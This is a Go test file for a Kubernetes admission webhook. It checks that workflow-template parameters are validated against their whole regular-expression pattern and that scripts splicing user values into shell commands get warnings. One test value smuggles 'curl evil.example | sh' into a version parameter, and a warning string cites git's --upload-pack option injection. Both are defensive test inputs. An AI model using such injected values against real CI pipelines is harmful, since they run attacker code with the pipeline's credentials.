package webhook_test

import (
	"strings"
	"testing"
)

// TestParameterAndResultPatterns: a template's parameter patterns and a step's result patterns are
// checked when the template is written (they compile; the default and allowed values match), and a
// run whose value does not match the whole pattern is refused with the parameter named.
func TestParameterAndResultPatterns(t *testing.T) {
	ns := team(t)
	ctx := ctxT(t)
	for _, tc := range []struct{ name, manifest string }{
		{"a pattern that is not a regular expression", `metadata: {name: t1}
spec:
  parameters: [{name: version, pattern: "v[0-9+"}]
  steps: [{name: a, image: busybox}]`},
		{"a default that does not match", `metadata: {name: t2}
spec:
  parameters: [{name: version, pattern: 'v[0-9]+', default: latest}]
  steps: [{name: a, image: busybox}]`},
		{"an allowed value that does not match", `metadata: {name: t3}
spec:
  parameters: [{name: version, pattern: 'v[0-9]+', allowedValues: [v1, v2-rc]}]
  steps: [{name: a, image: busybox}]`},
		{"a result pattern that is not a regular expression", `metadata: {name: t4}
spec:
  steps: [{name: a, image: busybox, results: [{name: digest, pattern: "sha256:(["}]}]`},
	} {
		want := map[string][]string{
			"a pattern that is not a regular expression":        {"spec.parameters[0].pattern", `pattern "v[0-9+" is not a regular expression (RE2 syntax)`},
			"a default that does not match":                     {"spec.parameters[0].default", "parameter version: the default does not match the pattern"},
			"an allowed value that does not match":              {"spec.parameters[0].allowedValues[1]", "could never be given"},
			"a result pattern that is not a regular expression": {"spec.steps[0].results[0].pattern", `step "a": result digest: pattern`},
		}[tc.name]
		refused(t, tc.name, as(alice).Create(ctx, mustTemplate(t, ns, tc.manifest)), want...)
	}

	create(t, as(alice), mustTemplate(t, ns, `metadata: {name: release}
spec:
  parameters: [{name: version, pattern: 'v[0-9]+\.[0-9]+\.[0-9]+'}]
  steps: [{name: tag, image: busybox, args: [tag, "$(params.version)"]}]`))
	// The whole value must match: a pattern is not a search.
	refused(t, "a value that only contains a match", as(alice).Create(ctx, mustWorkflow(t, ns, `metadata: {name: r1}
spec: {workflowTemplateRef: {name: release}, parameters: [{name: version, value: "v1.2.3; curl evil.example | sh"}]}`)),
		"spec.parameters", `parameter "version": "v1.2.3; curl evil.example | sh" does not match the pattern "v[0-9]+\\.[0-9]+\\.[0-9]+"`)
	create(t, as(alice), mustWorkflow(t, ns, `metadata: {name: r2}
spec: {workflowTemplateRef: {name: release}, parameters: [{name: version, value: v1.2.3}]}`))
}

// TestScriptsThatSpliceValuesAreWarnedOf: a template whose step runs a shell script with a
// parameter anyone who runs it may choose replaced in it, or passes it as an argument that an
// option could be, is admitted with a warning that says how to fix it; passing the value through
// env, or constraining it, leaves nothing to warn of.
func TestScriptsThatSpliceValuesAreWarnedOf(t *testing.T) {
	ns := team(t)
	template := func(name, param, step string) string {
		t.Helper()
		return kubectlCreate(t, ns, alice, `apiVersion: custody.dev/v1alpha1
kind: WorkflowTemplate
metadata: {name: `+name+`}
spec:
  parameters: [`+param+`]
  steps:
  - {name: build, image: busybox, results: [{name: digest}]}
  - `+step+`
`)
	}
	out := template("deploy-1", "{name: branch}",
		`{name: deploy, image: busybox, dependsOn: [build], command: [/bin/sh, -ec], args: ["git checkout $(params.branch) && deploy $(steps.build.results.digest)"]}`)
	for _, want := range []string{
		`Warning: spec.steps[1]: step "deploy" replaces $(params.branch) in the script it runs with "sh -c": a value with ; or $(...) ` +
			`in it would run as commands, with the step's credentials. Pass it in env instead and read it from there (quoted, "$VALUE", ` +
			`in a shell), or limit the parameter with allowedValues or a pattern`,
		`Warning: spec.steps[1]: step "deploy" replaces $(steps.build.results.digest) in the script`,
		"or give the result a pattern",
		"workflowtemplate.custody.dev/deploy-1 created",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("kubectl printed:\n%s\nwant a line with %q", out, want)
		}
	}
	out = template("deploy-2", "{name: branch, pattern: '[A-Za-z0-9._/-]+'}",
		`{name: deploy, image: busybox, dependsOn: [build], env: [{name: DIGEST, value: "$(steps.build.results.digest)"}], `+
			`command: [bash, -euo, pipefail, -c], args: ["git checkout $(params.branch) && deploy \"$DIGEST\""]}`)
	if strings.Contains(out, "Warning:") {
		t.Errorf("kubectl printed:\n%s\nwant no warning: the parameter has a pattern and the result comes through env", out)
	}

	// A value passed as an argument of its own is read as an option if it begins with "-": a
	// pattern that lets it is warned of, one that does not is not.
	out = template("deploy-3", "{name: branch, pattern: '[A-Za-z0-9._/-]+'}",
		`{name: deploy, image: busybox, dependsOn: [build], args: [checkout, "$(params.branch)"]}`)
	if want := `Warning: spec.steps[1]: step "deploy" passes $(params.branch) as an argument of its own: a value that begins ` +
		`with - would be read as an option (git's --upload-pack=COMMAND runs COMMAND), with the step's credentials. Put "--" ` +
		`before the arguments that are not options, if the program takes it, or limit the parameter with allowedValues or a ` +
		`pattern that cannot begin with -`; !strings.Contains(out, want) {
		t.Errorf("kubectl printed:\n%s\nwant a line with %q", out, want)
	}
	out = template("deploy-4", "{name: branch, pattern: '[A-Za-z0-9][A-Za-z0-9._/-]*'}",
		`{name: deploy, image: busybox, dependsOn: [build], args: [checkout, "$(params.branch)"]}`)
	if strings.Contains(out, "Warning:") {
		t.Errorf("kubectl printed:\n%s\nwant no warning: the pattern keeps the value from beginning with -", out)
	}
}
